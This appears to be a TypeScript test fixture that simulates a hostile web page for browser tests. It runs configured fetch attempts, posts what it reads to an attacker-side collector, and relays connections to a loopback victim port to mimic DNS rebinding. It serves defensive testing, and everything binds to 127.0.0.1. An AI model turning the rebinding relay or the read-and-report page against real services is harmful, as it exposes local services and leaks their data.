import http from 'node:http';
import net from 'node:net';

/** One request the hostile page makes, as `fetch(url, init)`. */
export interface Attempt {
  name: string;
  url: string;
  init: { method?: string; mode?: 'cors' | 'no-cors' | 'same-origin'; headers?: Record<string, string>; body?: string };
}

/** What the page saw of one attempt: a status it could read (0 for an opaque no-cors answer), or the error. */
export interface Seen {
  name: string;
  status?: number;
  type?: string;
  body?: string;
  error?: string;
}

export interface WebAttacker {
  /** The page, as the browser is pointed at it. */
  url: string;
  /** What the page reported once every attempt had settled. */
  report: Promise<Seen[]>;
  close(): Promise<void>;
}

/**
 * A hostile web site for browser tests. It serves a page at `/` that makes each attempt with
 * `fetch` and sends what it saw to the attacker's own collector (another server: after a rebinding,
 * the page's own origin, even an open connection to it, is the victim's). With `rebindTo`, every other
 * connection is relayed byte for byte to that port on 127.0.0.1: what DNS rebinding achieves once the
 * attacker's name resolves to 127.0.0.1 (the page's own origin, `http://attacker.test:PORT`, now
 * reaches the victim, which receives the browser's own request: `Host: attacker.test:PORT`,
 * `Sec-Fetch-Site: same-origin`). So the site listens on the victim's port number at another
 * loopback address (127.0.0.2), and the browser maps `attacker.test` there.
 */
export async function startWebAttacker(opts: { host: string; port: number; name?: string; attempts: Attempt[]; rebindTo?: number }): Promise<WebAttacker> {
  let resolveReport!: (seen: Seen[]) => void;
  const report = new Promise<Seen[]>((resolve) => (resolveReport = resolve));
  const sockets = new Set<net.Socket>();
  let pageServed = false;
  const collector = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      res.writeHead(204).end();
      if (req.url === '/__report') resolveReport(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Seen[]);
    });
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', () => resolve()));
  const reportUrl = `http://127.0.0.1:${(collector.address() as net.AddressInfo).port}/__report`;
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => undefined);
    let head = Buffer.alloc(0);
    const onData = (chunk: Buffer) => {
      head = Buffer.concat([head, chunk]);
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) return;
      const text = head.toString('latin1', 0, end);
      const [requestLine] = text.split('\r\n');
      const target = requestLine!.split(' ')[1] ?? '/';
      // The page is served once; with a rebinding, every later request (a fetch of `/` included) goes
      // to the victim, as it would once the name points there. Serving `/` again made the outcome
      // depend on whether the browser reused a connection already relayed to the victim.
      if (target === '/favicon.ico' || (target === '/' && !(opts.rebindTo !== undefined && pageServed))) {
        if (target === '/') pageServed = true;
        socket.off('data', onData);
        respond(socket, target === '/' ? 200 : 404, target === '/' ? page(opts.attempts, reportUrl) : '', 'text/html');
        return;
      }
      socket.off('data', onData);
      if (opts.rebindTo === undefined) {
        respond(socket, 404, '', 'text/plain');
        return;
      }
      // Rebound: from here on this connection is the victim's.
      const victim = net.connect(opts.rebindTo, '127.0.0.1', () => {
        victim.write(head);
        socket.pipe(victim).pipe(socket);
      });
      victim.on('error', () => socket.destroy());
    };
    socket.on('data', onData);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(opts.port, opts.host, () => resolve());
  });
  const port = (server.address() as net.AddressInfo).port;
  return {
    url: `http://${opts.name ?? opts.host}:${port}/`,
    report,
    async close() {
      for (const s of sockets) s.destroy();
      collector.closeAllConnections();
      await Promise.all([new Promise<void>((resolve) => server.close(() => resolve())), new Promise<void>((resolve) => collector.close(() => resolve()))]);
    },
  };
}

function respond(socket: net.Socket, status: number, body: string, type: string): void {
  const bytes = Buffer.from(body);
  socket.end(`HTTP/1.1 ${status} X\r\ncontent-type: ${type}; charset=utf-8\r\ncontent-length: ${bytes.length}\r\nconnection: close\r\n\r\n${body}`);
}

function page(attempts: Attempt[], reportUrl: string): string {
  return `<!doctype html><html><body>running<script>
const attempts = ${JSON.stringify(attempts).replace(/</g, '\\u003c')};
(async () => {
  const seen = [];
  for (const a of attempts) {
    try {
      const r = await fetch(a.url, a.init);
      let body = '';
      try { body = (await r.text()).slice(0, 4000); } catch {}
      seen.push({ name: a.name, status: r.status, type: r.type, body });
    } catch (e) {
      seen.push({ name: a.name, error: String(e) });
    }
  }
  await fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
  document.body.textContent = 'reported';
})();
</script></body></html>`;
}
